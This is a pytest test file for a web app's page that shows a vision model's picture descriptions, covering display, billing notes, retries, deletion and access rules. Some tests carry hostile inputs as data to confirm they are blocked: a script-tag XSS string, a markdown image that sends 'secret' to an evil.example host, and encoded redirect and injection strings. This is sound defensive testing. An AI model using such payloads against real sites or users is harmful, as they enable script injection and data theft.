"""The page of one description: what it says in each state, what can be done with it, and by whom."""

import re
from html import unescape
from itertools import pairwise

import pytest

from describer.desk.presets import BUILT_IN
from describer.models import Attempt, Choice, Description, Status, UsageDay
from tests.rows import boat, make_counted_attempt, make_description, make_image
from tests.web.forms import text_of

pytestmark = pytest.mark.usefixtures("sandbox")
INERT = "<script>alert(1)</script>"
ROUTES = ("", "words/", "card/", "tile/", "again/", "cancel/", "delete/", "sent/0/")


def page(client, row):
    response = client.get(f"/descriptions/{row.pk}/")
    assert response.status_code == 200
    return response


def post(client, row, what, **fields):
    return client.post(f"/descriptions/{row.pk}/{what}/", fields)


def test_it_shows_question_answer_and_usage(hers, alice):
    row = make_description(alice, "Two wooden boats.", question="What is there?")
    words = text_of(page(hers, row))
    for expected in ("What is there?", "Two wooden boats.", "1,284 tokens", "vision-1", "billed"):
        assert expected in words


def test_its_headings_skip_no_level_whatever_the_model_wrote(hers, alice):
    row = make_description(alice, "# One\n\n### Two\n\nText", "# Other", parameters={"n": 2})
    levels = [int(level) for level in re.findall(r"<h([1-6])", page(hers, row).content.decode())]
    assert levels[0] == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))


def test_it_shows_what_the_model_saw(hers, alice):
    row = make_description(alice, "Boats.")
    response = page(hers, row)
    assert "What the model saw: 2000 × 1500, " in " ".join(text_of(response).split())
    assert f"/descriptions/{row.pk}/sent/0/" in response.content.decode()


def test_before_a_call_no_model_has_seen_anything(hers, alice):
    assert "What the model will see: 2000" in text_of(
        page(hers, make_description(alice, pictures=boat(alice)))
    )
    cancelled = make_description(alice, status="cancelled", pictures=boat(alice))
    assert "What the model would have seen: 2000" in text_of(page(hers, cancelled))


def test_several_answers_are_tabs_that_need_no_script(hers, alice):
    html = page(hers, make_description(alice, "One.", "Two.", parameters={"n": 3})).content.decode()
    assert html.count('type="radio"') == 2
    assert "Asked for 3 answers, got 2." in html


@pytest.mark.parametrize(
    ("choice", "says"),
    [
        ({"content": "Half", "finish_reason": "length"}, "Ask again with more room"),
        ({"content": None, "refusal": "I may not."}, "I may not."),
        ({"content": "Some", "finish_reason": "content_filter"}, "filter"),
        ({"content": "Half a", "finish_reason": "RECITATION"}, "filter"),
        ({"content": "Half a", "finish_reason": "content_filter: PROHIBITED_CONTENT"}, "filter"),
        *(
            ({"content": "Half a", "finish_reason": word}, f"broke off: the endpoint ended it with “{word}”")
            for word in (
                "insufficient_system_resource",
                "network_error",
                "abort",
                "ERROR",
                "FinishReason.ABORT",
            )
        ),
        ({"content": None, "tool_calls": [{"function": {"name": "look", "arguments": "{}"}}]}, "look"),
        ({"content": "Yes.", "reasoning": "Hm, let me see."}, "Hm, let me see."),
    ],
)
def test_odd_answers_are_said_in_words(hers, alice, choice, says):
    assert says in text_of(page(hers, make_description(alice, choice)))


def test_an_estimate_is_never_shown_as_a_count(hers, alice):
    estimate = {"prompt_tokens": 900, "completion_tokens": 40, "total_tokens": 940}
    silent = {"prompt_tokens": None, "completion_tokens": None, "total_tokens": None}
    row = make_description(alice, "Boats.", attempt=silent | {"estimated_usage": estimate})
    assert "about 940 tokens (not reported)" in text_of(page(hers, row))


def test_p04_a_call_that_may_have_been_billed_is_said_to_be_so(hers, alice):
    row = make_description(alice, "Boats.")
    make_counted_attempt(row, state=Attempt.State.UNKNOWN, billed="unknown")
    assert "may have been billed" in text_of(page(hers, row))


def test_a_changed_parameter_is_said(hers, alice):
    change = {"kind": "dropped", "param": "temperature", "to": ""}
    row = make_description(alice, "Boats.", attempt={"changed": [change]}, parameters={"temperature": 1})
    assert "without temperature: this model refuses it" in text_of(page(hers, row))


def test_failed_and_waiting_say_why(hers, alice):
    failed = make_description(
        alice,
        status="failed",
        error_code="bad_key",
        error_message="The key was refused.",
        pictures=boat(alice),
    )
    waiting = make_description(
        alice, status="waiting", waiting_reason="Next try at 14:05:20.", pictures=boat(alice)
    )
    assert "The key was refused." in text_of(page(hers, failed))
    assert "Next try at 14:05:20." in text_of(page(hers, waiting))


def test_p23_a_picture_that_is_gone_is_said_to_be_so(hers, alice):
    row = make_description(alice, "Boats.", pictures=[(make_image(alice, files=False), "boat.jpg")])
    assert "gone from the site" in text_of(page(hers, row))


def test_x20_scripts_in_question_name_and_answer_are_text(hers, alice):
    row = make_description(alice, INERT, question=INERT, pictures=[(make_image(alice), INERT)], model=INERT)
    html = page(hers, row).content.decode()
    assert INERT not in html
    assert "&lt;script&gt;" in html


def test_x21_a_picture_in_an_answer_is_a_link_with_its_host(hers, alice):
    html = page(hers, make_description(alice, "![](https://evil.example/?q=secret)")).content.decode()
    assert '<img src="https://evil' not in html
    assert "evil.example" in html


def test_ask_again_makes_one_new_ask_for_one_token(hers, alice):
    row = make_description(alice, "Boats.", model="sandbox", question="Again?")
    first, second = (post(hers, row, "again", token="t") for _ in range(2))
    assert first["Location"] == second["Location"]
    born = Description.objects.exclude(pk=row.pk).get()
    assert (born.question, born.pictures.get().name) == ("Again?", "boat.jpg")


def test_i9_more_room_doubles_the_tokens(hers, alice):
    cut = {"content": "Half", "finish_reason": "length"}
    row = make_description(alice, cut, model="sandbox", parameters={"max_tokens": 300})
    post(hers, row, "again", token="t", room="more")
    assert Description.objects.exclude(pk=row.pk).get().parameters == {"max_tokens": 600}


def test_cancel_stops_what_is_not_at_its_end(hers, alice):
    row = make_description(alice)
    assert post(hers, row, "cancel").status_code == 302
    row.refresh_from_db()
    assert row.status == Status.CANCELLED


def test_x34_delete_takes_the_words_and_the_ledger_keeps_its_numbers(hers, alice):
    row = make_description(alice, "Boats.")
    day = UsageDay.objects.get()
    assert post(hers, row, "delete", for_good="1")["Location"].startswith("/history/")
    assert not Description.objects.exists()
    assert not Choice.objects.exists()
    assert Attempt.objects.get().total_tokens == 1284
    assert UsageDay.objects.get() == day


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("method", ["get", "post", "put", "delete"])
def test_x4_a_stranger_meets_404_whatever_the_method(his, alice, route, method):
    row = make_description(alice, "Boats.")
    response = getattr(his, method)(f"/descriptions/{row.pk}/{route}")
    never = getattr(his, method)(f"/descriptions/{row.pk + 999}/{route}")
    assert response.status_code == never.status_code == 404
    assert Description.objects.get().status == Status.DONE


@pytest.mark.parametrize("route", ["again/", "cancel/", "delete/"])
def test_get_changes_nothing(hers, alice, route):
    row = make_description(alice)
    assert hers.get(f"/descriptions/{row.pk}/{route}").status_code == 405
    assert Description.objects.get().status == Status.QUEUED


def test_an_admin_sees_it_and_whose_it_is(bosses, alice):
    assert "asked by alice" in " ".join(text_of(page(bosses, make_description(alice, "Boats."))).split())


def test_next_and_previous_follow_the_list_that_led_here(hers, alice):
    rows = [make_description(alice, "Boats.", model=model) for model in ("a", "b", "a")]
    html = hers.get(f"/descriptions/{rows[2].pk}/?from=model%3Da").content.decode()
    assert f"/descriptions/{rows[0].pk}/" in html
    assert f"/descriptions/{rows[1].pk}/" not in html


def test_what_failed_says_why_and_how_far_it_got(hers, alice):
    half = {"content": "Two wooden", "finish_reason": None}
    row = make_description(
        alice, half, status="failed", error_code="stream_cut", error_message="The answer broke off."
    )
    words = text_of(page(hers, row))
    assert "Failed. The answer broke off. stream_cut" in words
    assert "How far it got: Two wooden" in words


def test_i12_x23_a_tool_that_was_asked_for_is_said_not_to_have_run(hers, alice):
    call = {"function": {"name": "report", "arguments": '{"sign": "wet paint"}'}}
    words = text_of(page(hers, make_description(alice, {"content": None, "tool_calls": [call]})))
    assert 'Tool report { "sign": "wet paint" }' in words
    assert "Nothing was run" in words


def test_i19_a_model_that_answered_under_another_name_is_named_too(hers, alice):
    row = make_description(alice, "Boats.", attempt={"model_answered": "vision-1-2026"})
    assert "vision-1, answered by vision-1-2026" in text_of(page(hers, row))


def test_each_attempt_tells_status_error_and_bill(hers, alice):
    row = make_description(alice, "Boats.")
    values = {"http_status": 429, "error_code": "rate_limited", "error_message": "Slow down.", "billed": "no"}
    make_counted_attempt(row, state=Attempt.State.REFUSED, request_id="req-7", **values)
    words = text_of(page(hers, row))
    assert "2: 1 not billed, 1 billed" in words
    for expected in ("HTTP status 429", "Slow down. rate_limited", "request id req-7"):
        assert expected in words


def test_the_parameters_are_on_the_folds_own_line(hers, alice):
    schema = {"type": "json_schema", "json_schema": {"name": "sign"}}
    row = make_description(alice, "{}", parameters={"temperature": 0.2, "response_format": schema})
    assert "Parameters temperature 0.2 · response_format" in text_of(page(hers, row))


def test_the_exact_request_leaves_the_pictures_bytes_out(hers, alice):
    html = page(hers, make_description(alice, "Boats.", parameters={"seed": 7})).content.decode()
    request = html.partition("The exact request")[2]
    assert "&quot;seed&quot;: 7" in request
    assert "data:image/jpeg;base64,..." in request


def test_thoughts_are_folded_and_not_copied(hers, alice):
    html = page(hers, make_description(alice, "<think>Hm.</think>Two boats.")).content.decode()
    assert html.count("Hm.") == 1
    assert 'data-copy="Two boats."' in html


def test_fa01_text_is_copied_from_the_stored_words_and_shown_as_it_stands(hers, alice):
    words = "3. Pay\n1. Show\n\n**now**, `at` C:\\_x\\*"
    html = page(hers, make_description(alice, f"<think>Hm.</think>{words}<|im_end|>")).content.decode()
    (button,) = re.findall(r'data-copy="([^"]*)">Copy text<', html)
    assert unescape(button) == words
    assert "data-copy-from" not in html
    (stands,) = re.findall(r"<summary>As it stands</summary>\s*<p[^>]*>([^<]*)</p>", html)
    assert unescape(stands) == words


def test_fa01_what_was_to_be_read_off_is_plain_text(hers, alice):
    html = page(hers, make_description(alice, "# 5\n**NO** _ENTRY_", is_plain=True)).content.decode()
    assert [one.name for one in BUILT_IN if one.is_plain] == ["read"]
    assert '<p class="as-it-stands"># 5\n**NO** _ENTRY_</p>' in html


@pytest.mark.parametrize("path", ["/", "/history/"])
def test_fa04_lists_show_neither_thoughts_nor_special_tokens(hers, alice, path):
    make_description(alice, "hm\n</think>\n\n<|begin_of_box|>Two boats.<|end_of_box|>")
    shown = text_of(hers.get(path))
    assert "Two boats." in shown and "begin_of_box" not in shown and "end_of_box" not in shown


def test_p23_what_has_lost_a_picture_is_not_offered_to_be_asked_again(hers, alice):
    row = make_description(alice, "Boats.", pictures=[(make_image(alice, files=False), "boat.jpg")])
    assert "Ask again" not in text_of(page(hers, row))


def test_its_words_alone_are_fetched_when_its_state_changes(hers, alice):
    row = make_description(alice, pictures=boat(alice))
    assert f'data-card="/descriptions/{row.pk}/words/"' in page(hers, row).content.decode()
    response = hers.get(f"/descriptions/{row.pk}/words/")
    assert b"<html" not in response.content
    assert f'id="description-{row.pk}"' in response.content.decode()
    assert response["X-Running"] == "1"


def test_more_room_without_a_limit_is_twice_what_was_written(hers, alice):
    cut = {"content": "Half", "finish_reason": "length"}
    row = make_description(alice, cut, model="sandbox", attempt={"completion_tokens": 900})
    post(hers, row, "again", token="t", room="more")
    assert Description.objects.exclude(pk=row.pk).get().parameters == {"max_tokens": 1800}


def test_x28_an_ask_that_is_refused_says_why(hers, alice, settings):
    settings.QUEUED_PER_PERSON = 1
    make_description(alice, model="sandbox")
    row = make_description(alice, "Boats.", model="sandbox")
    response = hers.post(f"/descriptions/{row.pk}/again/", {"token": "t"}, follow=True)
    assert response.redirect_chain[-1][0] == f"/descriptions/{row.pk}/"
    assert 'class="toast error"' in response.content.decode()
    assert Description.objects.count() == 2


def test_an_admin_asks_nothing_in_anothers_name(bosses, alice):
    row = make_description(alice, "Boats.")
    assert post(bosses, row, "again", token="t").status_code == 404
    assert "Ask again" not in text_of(page(bosses, row))


def test_x34_a_picture_that_another_description_shows_stays(hers, alice):
    image = make_image(alice)
    first, second = (make_description(alice, "Boats.", pictures=[(image, "a.jpg")]) for _ in range(2))
    post(hers, first, "delete", for_good="1")
    assert "What the model saw" in text_of(page(hers, second))


def test_x34_deleting_what_runs_leaves_its_call_to_the_ledger(hers, alice):
    row = make_description(
        alice, status="running", attempt={"state": Attempt.State.SENT}, pictures=boat(alice)
    )
    post(hers, row, "delete", for_good="1")
    call = Attempt.objects.get()
    call.complete(Attempt.State.ANSWERED, total_tokens=50, billed="yes")
    assert Attempt.objects.get().total_tokens == 50


def test_after_deleting_one_is_back_in_the_list_that_led_here(hers, alice):
    response = post(
        hers, make_description(alice, "Boats."), "delete", **{"from": "state=done&model=vision-1"}
    )
    assert response["Location"] == "/history/?state=done&model=vision-1"


@pytest.mark.parametrize("place", ["%00", "before%3Dabc", "https%3A%2F%2Fevil.example", "%22%3E%3Cscript%3E"])
def test_x25_odd_places_are_no_fault_and_lead_nowhere_else(hers, alice, place):
    row = make_description(alice, "Boats.")
    response = hers.get(f"/descriptions/{row.pk}/?from={place}")
    assert response.status_code == 200
    assert 'href="https://evil' not in response.content.decode()
    assert "<script>" not in response.content.decode()


def test_x25_nul_in_a_token_is_no_fault(hers, alice):
    row = make_description(alice, "Boats.", model="sandbox")
    assert post(hers, row, "again", token="a\x00b\x1b").status_code == 302


def test_it_says_not_to_be_there_to_who_is_logged_out(client, alice):
    row = make_description(alice, "Boats.")
    for route in ROUTES:
        address = f"/descriptions/{row.pk}/{route}"
        assert client.post(address)["Location"] == f"/login/?next={address}"
    assert Description.objects.exists()


def test_a_star_tags_and_the_answer_that_counts_are_set_without_a_script(hers, alice):
    row = make_description(alice, "One.", "Two.", parameters={"n": 2})
    assert post(hers, row, "marks", favourite="1", **{"from": "state=done"})["Location"].endswith(
        "?from=state%3Ddone"
    )
    post(hers, row, "marks", tags="Harbour, boat show,")
    post(hers, row, "marks", kept="1")
    shown = text_of(page(hers, row))
    assert "★ Favourite" in shown and "boat show" in shown and "This one counts" in shown
    row.refresh_from_db()
    assert (row.favourite, row.kept) == (True, 1)
    for query in ("?favourite=1", "?tag=HARBOUR", "?favourite=1&tag=boat%20show&state=done"):
        assert f'id="description-{row.pk}"' in hers.get(f"/history/{query}").content.decode()
    assert "Nothing with this filter" in text_of(hers.get("/history/?tag=other"))


def test_a_mark_that_is_refused_is_said(hers, alice):
    row = make_description(alice, "One.")
    response = hers.post(f"/descriptions/{row.pk}/marks/", {"tags": "x" * 61}, follow=True)
    assert "A tag has at most 60 characters." in text_of(response)
